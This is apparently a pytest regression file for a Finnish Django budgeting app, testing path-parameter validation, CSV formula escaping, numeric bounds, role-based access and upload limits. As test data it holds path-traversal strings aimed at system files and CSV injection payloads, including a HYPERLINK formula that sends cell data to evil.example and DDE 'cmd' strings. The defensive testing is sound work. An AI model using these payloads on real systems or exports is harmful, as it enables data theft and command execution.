"""Regression tests of issue 9 for the browser: layouts by name only (6), inert CSV cells (7),
bounded whole-number parameters (11) and ledger lines by role (13)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from django.test import Client

from webdemo import AREA, OTHER_AREA, PERIOD, demo_data, signed_in

__all__ = ["demo_data", "signed_in"]

pytestmark = pytest.mark.django_db

DRILL = f"/porautuminen/{AREA}/palvelujen_ostot/tot/"
REPORT = {"yksikko": "1000", "kausi": PERIOD, "muoto": "json"}


@pytest.mark.parametrize(
    "layout",
    [
        "/etc/passwd",
        "../../../../etc/hostname",
        "src/toteuma/core/data/layouts/reference.toml",
        "/proc/self/environ",
        "/dev/zero",
        "reference.toml",
        "nonexistent",
    ],
)
def test_the_layout_parameter_names_a_shipped_layout_and_never_a_file(
    signed_in: Callable[..., Client], layout: str
) -> None:
    response = signed_in("valtuutettu").get("/raportit/", {**REPORT, "asettelu": layout})
    page = response.content.decode()
    assert response.status_code == 400
    assert "valitse jokin näistä: reference, committee-year-end, gross-binding" in page
    assert "root:" not in page
    assert str(Path(__file__).resolve().parents[1]) not in page  # no path of the server's own


def test_a_shipped_layout_still_opens_by_name(signed_in: Callable[..., Client]) -> None:
    response = signed_in("valtuutettu").get("/raportit/", {**REPORT, "asettelu": "gross-binding"})
    assert response.status_code == 200


HOSTILE = {
    "text": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "document": "+cmd|' /C calc'!A0",
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_ledger_lines_csv_never_carries_a_formula(signed_in: Callable[..., Client]) -> None:
    from toteuma.storage.models import LedgerLine

    cell = _cell()
    behind = LedgerLine.objects.filter(unit__code__in=cell.codes, account__in=cell.accounts, year=2024)
    line = behind.order_by("id").first()
    assert line is not None
    LedgerLine.objects.filter(id=line.id).update(**HOSTILE)
    response = signed_in("talous").get(f"{DRILL}rivit.csv", {"kausi": PERIOD, "jarjestys": "date"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = [cell for row in rows[1:] for index, cell in enumerate(row) if index in (1, 4, 7)]
    assert cells, "no lines"
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
    for text in HOSTILE.values():
        assert "'" + text in cells


def test_the_report_csv_never_carries_a_formula(signed_in: Callable[..., Client]) -> None:
    from toteuma.storage.models import Unit

    Unit.objects.filter(code="1000").update(name='=HYPERLINK("http://evil.example/","Yhteiset")')
    Unit.objects.filter(code=AREA).update(name="-2+3+cmd|' /C calc'!A0")
    response = signed_in("valtuutettu").get("/raportit/", {**REPORT, "muoto": "csv"})
    rows = list(
        csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )  # Finnish CSV
    names = {row["unit_name"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/","Yhteiset")' in names
    assert "'-2+3+cmd|' /C calc'!A0" in names
    texts = [value for row in rows for key, value in row.items() if key not in ("value", "exact_cents")]
    assert not [text for text in texts if text and text[0] in "=+-@\t\r"]
    assert any(row["value"].startswith("-") for row in rows)  # figures stay numbers


@pytest.mark.parametrize(
    "url",
    [
        f"{DRILL}rivit/?kausi={PERIOD}&sivu=100000000000000000000",
        f"{DRILL}rivit/?kausi={PERIOD}&sivu=-5",
        f"{DRILL}?kausi={PERIOD}&tili=1e20",
        f"{DRILL}?kausi={PERIOD}&tili=100000000000000000000",
        f"{DRILL}rivit/?kausi={PERIOD}&tili=99999999999",
        f"{DRILL}rivit.csv?kausi={PERIOD}&tili={'9' * 5000}",
        "/loki/?sivu=100000000000000000000",
        "/loki/?sivu=٣",  # an Arabic-Indic digit: int() takes it, the parameter does not
    ],
)
def test_out_of_range_whole_numbers_are_a_400_not_a_500(signed_in: Callable[..., Client], url: str) -> None:
    response = signed_in("talous").get(url)
    assert response.status_code == 400
    assert "on annettava kokonaislukuna väliltä" in response.content.decode()


@pytest.mark.parametrize(
    ("data", "field"),
    [({"versio": "1" + "0" * 20}, "versio"), ({"versio": 0, "tavoite": "9" * 30}, "tavoite")],
)
def test_posted_whole_numbers_are_bounded_too(
    signed_in: Callable[..., Client], data: dict[str, object], field: str
) -> None:
    response = signed_in("lakimies").post(
        f"/yksikko/{AREA}/teksti/", {"kausi": PERIOD, "teksti": "x", **data}
    )
    assert response.status_code == 400
    assert field in response.content.decode()


def test_a_batch_id_beyond_any_database_id_is_404(signed_in: Callable[..., Client]) -> None:
    assert signed_in("talous").post(f"/tuonnit/{'9' * 25}/peru/").status_code == 404


def test_a_reader_sees_figures_by_account_and_cost_center_but_no_ledger_lines(
    signed_in: Callable[..., Client],
) -> None:
    reader = signed_in("valtuutettu")
    account = reader.get(DRILL, {"kausi": PERIOD})
    assert account.status_code == 200
    assert "rivit/" not in account.content.decode()  # no link offered
    first = next(iter(_accounts()))
    centers = reader.get(DRILL, {"kausi": PERIOD, "tili": first})
    assert centers.status_code == 200
    assert "Kustannuspaikoittain" in centers.content.decode()
    for url in (f"{DRILL}rivit/", f"{DRILL}rivit.csv"):
        response = reader.get(url, {"kausi": PERIOD})
        assert response.status_code == 403
        assert b"Selite" not in b"".join(getattr(response, "streaming_content", [response.content]))


def test_lines_are_for_controllers_and_the_units_own_responsible(signed_in: Callable[..., Client]) -> None:
    assert signed_in("talous").get(f"{DRILL}rivit/", {"kausi": PERIOD}).status_code == 200
    assert signed_in("lakimies").get(f"{DRILL}rivit/", {"kausi": PERIOD}).status_code == 200
    other = f"/porautuminen/{OTHER_AREA}/palvelujen_ostot/tot/"
    assert signed_in("lakimies").get(f"{other}rivit.csv", {"kausi": PERIOD}).status_code == 403
    assert signed_in("digi").get(f"{other}rivit/", {"kausi": PERIOD}).status_code == 200


def _cell():  # type: ignore[no-untyped-def]
    from toteuma.core.periods import Period
    from toteuma.services import drill

    return drill.cell(AREA, "palvelujen_ostot", "tot", Period.parse(PERIOD))


def _accounts() -> tuple[int, ...]:
    return tuple(_cell().accounts)


def test_an_upload_with_a_20_mb_cell_is_a_problem_and_leaves_no_staged_file(
    signed_in: Callable[..., Client], settings: object, tmp_path: Path
) -> None:
    """Issue 9, item 5: no 500, the problem with its row and column, the staged upload removed."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.UPLOAD_DIR = str(tmp_path)  # type: ignore[attr-defined]
    body = "Kirjauspvm;Tosite;Tili;Kustannuspaikka;Summa;Selite\n15.1.2024;1;4300;130010;1,00;"
    upload = SimpleUploadedFile("ledger.csv", (body + "x" * 20_000_000 + "\n").encode(), "text/csv")
    response = signed_in("talous").post("/tuonnit/lataa/", {"laji": "ledger", "tiedosto": upload})
    assert response.status_code == 422
    assert "value.too-long" in response.content.decode()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]
